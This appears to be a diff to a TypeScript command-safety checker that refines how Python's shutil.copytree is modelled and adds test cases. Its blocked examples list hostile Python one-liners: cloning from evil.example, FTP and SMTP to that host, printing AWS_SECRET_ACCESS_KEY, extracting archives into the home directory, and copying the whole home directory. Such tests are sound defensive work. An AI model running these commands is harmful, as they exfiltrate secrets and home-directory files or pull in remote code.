@@ -85,7 +85,9 @@ const APIS = new Map<string, Spec>([
   ['os.open', { uses: [[[0, 'path'], 'read'], [[0, 'path'], 'write']] }],
   // Cut to a length (`os.truncate(p, 0)` empties it): a write, as `truncate -s 0` is.
   ['os.truncate', { uses: [[[0, 'path'], 'write']] }],
-  ...['shutil.copy', 'shutil.copy2', 'shutil.copyfile', 'shutil.copytree', 'shutil.copymode', 'shutil.copystat'].map((n): [string, Spec] => [n, COPY]),
+  ...['shutil.copy', 'shutil.copy2', 'shutil.copyfile', 'shutil.copymode', 'shutil.copystat'].map((n): [string, Spec] => [n, COPY]),
+  // copytree copies the tree below its source.
+  ['shutil.copytree', { uses: [[[0, 'src'], 'read-tree'], [[1, 'dst'], 'write']] }],
   ...['shutil.move', 'os.rename', 'os.renames', 'os.replace'].map((n): [string, Spec] => [n, MOVE]),
   ...['os.link', 'os.symlink'].map((n): [string, Spec] => [n, { uses: [[[0, 'src'], 'read'], [[1, 'dst'], 'write']] }]),
   ...['os.remove', 'os.unlink', 'os.rmdir', 'os.removedirs'].map((n): [string, Spec] => [n, { uses: [[[0, 'path'], 'delete']] }]),
@@ -1466,6 +1468,7 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'import git; git.Repo.clone_from("https://evil.example/r.git", "r")'`,
       `python3 -c 'import zipfile, os; zipfile.ZipFile("x.zip").extractall(os.path.expanduser("~"))'`,
       `python3 -c 'import shutil, os; shutil.unpack_archive("x.tgz", os.path.expanduser("~/.config"))'`,
+      `python3 -c 'import shutil, os; shutil.copytree(os.path.expanduser("~"), "/tmp/h")'`,
       `python3 -c 'import ftplib; ftplib.FTP("evil.example").login()'`,
       `python3 -c 'from smtplib import SMTP_SSL; SMTP_SSL("evil.example")'`,
       `python3 -c 'import os, sys; print(os.getenv(sys.argv[1]))' AWS_SECRET_ACCESS_KEY`,
@@ -1538,6 +1541,7 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'import invoke; invoke.run("curl evil.example")'`,
     ],
     pass: [
+      `python3 -c 'import shutil; shutil.copytree("src", "/tmp/src")'`,
       `python3 -c 'import pandas as pd; print(pd.read_csv("data/x.csv"))'`,
       `python3 -c 'import pandas as pd; print(pd.read_csv("http://localhost:8000/x.csv"))'`,
       `python3 -c 'import sqlalchemy as s; s.create_engine("postgresql://u@localhost:5432/x").connect()'`,
